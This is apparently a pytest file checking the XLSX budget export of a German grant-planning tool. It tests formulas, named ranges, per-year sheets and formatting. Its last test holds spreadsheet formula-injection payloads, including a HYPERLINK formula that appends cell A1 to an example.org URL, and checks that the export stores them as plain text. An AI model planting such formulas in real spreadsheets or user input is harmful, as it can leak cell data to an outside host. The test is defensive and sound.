"""XLSX structure read back with openpyxl: live formulas, inputs, formats, sheets per year.

The figures the formulas produce are checked after LibreOffice recalculates (test_office.py).
"""

from __future__ import annotations

import io

import openpyxl
from openpyxl.workbook.workbook import Workbook

from funding_matcher.domain.budget import check_budget
from funding_matcher.domain.exports import export_xlsx

from .conftest import MakeDocument, dev_budget, report_of

EUR = '#,##0.00 "€"'


def load(data: bytes) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def named(wb: Workbook, name: str) -> tuple[str, str]:
    """(sheet, cell) a workbook name points to."""
    [(sheet, cell)] = list(wb.defined_names[name].destinations)
    return sheet, cell.replace("$", "")


def row_of(ws, text: str, column: str = "C") -> int:
    for row in range(1, ws.max_row + 1):
        if ws[f"{column}{row}"].value == text:
            return row
    raise AssertionError(f"{text!r} nicht in Spalte {column}")


def test_line_amounts_are_formulas_over_their_inputs(make_document: MakeDocument) -> None:
    wb = load(export_xlsx(make_document(budget=report_of("d2-subsidiarity-lottery"))))
    ws = wb["Gesamtplan"]
    row = row_of(ws, "Koordination Nachbarschaftstreff")
    assert (ws[f"E{row}"].value, ws[f"F{row}"].value, ws[f"G{row}"].value) == (5200, 0.75, 36)
    assert ws[f"L{row}"].value == f"=ROUND(E{row}*F{row}*G{row},2)"
    assert ws[f"L{row}"].number_format == EUR
    bike = row_of(ws, "Lastenrad")
    assert ws[f"L{bike}"].value == f"=ROUND(H{bike}*I{bike}*(1+J{bike}/100),2)"
    assert ws[f"J{bike}"].value == 19  # no Vorsteuerabzug: gross
    assert ws[f"M{bike}"].value == "einmalig am 01.07.2027"
    courses = row_of(ws, "Inklusive Kurse")
    assert ws[f"L{courses}"].value.startswith("=SUM('Haushaltsjahre'!C")
    party = row_of(ws, "Bewirtung Sommerfest")
    assert ws[f"D{party}"].value == "nein"
    assert ws[f"L{party}"].value == 1500  # an amount line is an input


def test_grant_is_the_least_of_the_caps_as_formulas(make_document: MakeDocument) -> None:
    wb = load(export_xlsx(make_document(budget=report_of("d1-anteil-other-funding"))))
    sheet, cell = named(wb, "Hoechstmoegliche_Zuwendung")
    assert wb[sheet][cell].value.startswith("=IF(Zuwendung_moeglich=1,MAX(0,MIN(L")
    sheet, cell = named(wb, "Zuwendung")
    assert wb[sheet][cell].value == "=IF(ISNUMBER(Beantragt),Beantragt,Hoechstmoegliche_Zuwendung)"
    sheet, cell = named(wb, "Bemessung")
    assert "eligible_minus_income" in wb[sheet][cell].value
    sheet, cell = named(wb, "Foerdersatz")
    assert (sheet, wb[sheet][cell].value) == ("Bedingungen", 80)
    sheet, cell = named(wb, "Bemessungsgrundlage")
    assert wb[sheet][cell].value == "eligible_minus_private_third_party"
    sheet, cell = named(wb, "Hoechstbetrag")
    assert wb[sheet][cell].value == 150000


def test_financing_is_one_row_per_source_with_its_kind(make_document: MakeDocument) -> None:
    wb = load(export_xlsx(make_document(budget=report_of("d2-subsidiarity-lottery"))))
    ws = wb["Gesamtplan"]
    row = row_of(ws, "Eingliederungszuschuss der Agentur für Arbeit (Koordination)")
    assert ws[f"B{row}"].value == "Andere öffentliche Förderung"
    assert ws[f"D{row}"].value == "ja"  # counts as own share (counts_as_own)
    assert ws[f"L{row}"].value == 9000
    assert ws[f"D{row_of(ws, 'Stadt Hildesheim')}"].value == "nein"
    assert ws[f"D{row_of(ws, 'Spendenaktion')}"].value == "ja"


def test_years_sheet_has_financing_grant_and_own_funds_per_year(
    make_document: MakeDocument,
) -> None:
    wb = load(export_xlsx(make_document(budget=report_of("d5-one-off-years"))))
    assert wb.sheetnames == ["Gesamtplan", "Haushaltsjahre", "Bedingungen"]
    ws = wb["Haushaltsjahre"]
    assert [ws.cell(4, c).value for c in range(3, 7)] == ["2027", "2028", "2029", "Summe"]
    row = row_of(ws, "Spielgeräte", "B")
    assert [ws.cell(row, c).value for c in range(3, 6)] == [0, 57120, 0]  # paid in 2028
    grant = row_of(ws, "Zuwendung", "B")
    assert ws[f"C{grant}"].value.startswith("=ROUND(Zuwendung*C")
    assert ws[f"E{grant}"].value == f"=Zuwendung-(C{grant}+D{grant})"
    own = row_of(ws, "Eigenmittel je Jahr (im Haushalt bereitzustellen)", "B")
    assert ws[f"D{own}"].value.startswith(f"=ROUND(D{row_of(ws, 'Barausgaben', 'B')}-D{grant}")
    assert ws.freeze_panes == "C5"


def test_assumed_payment_years_are_marked(make_document: MakeDocument) -> None:
    wb = load(export_xlsx(make_document(budget=report_of("d7-unknown-terms"))))
    ws = wb["Haushaltsjahre"]
    assert ws["C4"].value == "2027*"
    row = row_of(ws, "Lebensmittel Kochabende (Zahlungsjahr angenommen)", "B")
    assert ws[f"C{row}"].value == 1800


def test_labels_are_not_cut(make_document: MakeDocument) -> None:
    data = dev_budget("d1-anteil-other-funding")
    long = (
        "Quartierskoordination mit Beratung, Netzwerkarbeit und Öffentlichkeitsarbeit im Stadtteil"
    )
    data["costs"][0]["label"] = long
    wb = load(export_xlsx(make_document(budget=check_budget(data))))
    ws = wb["Gesamtplan"]
    row = row_of(ws, long)
    assert ws.column_dimensions["C"].width >= 60
    assert ws[f"C{row}"].alignment.wrap_text
    assert ws.freeze_panes == "A4"
    assert ws["L3"].value == "Betrag"


def test_without_plan_a_single_sheet_says_so(make_document: MakeDocument) -> None:
    wb = load(export_xlsx(make_document(budget=None)))
    assert wb.sheetnames == ["Gesamtplan"]
    texts = [c.value for row in wb["Gesamtplan"].iter_rows() for c in row if c.value]
    assert any("noch kein Kosten- und Finanzierungsplan erfasst" in t for t in texts)


def test_user_text_is_never_a_formula(make_document: MakeDocument) -> None:
    data = dev_budget("d1-anteil-other-funding")
    payloads = ['=HYPERLINK("https://example.org/?"&A1,"klick")', "+1+1", "-2", "@SUM(1)"]
    for line, payload in zip(data["costs"], payloads, strict=False):
        line["label"] = payload
    data["financing"]["sources"][1]["label"] = payloads[3]
    wb = load(export_xlsx(make_document(budget=check_budget(data))))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    for payload in payloads:
        found = [c for c in cells if c.value == payload]
        assert found, payload
        for cell in found:
            assert cell.data_type == "s"
            assert cell.quotePrefix
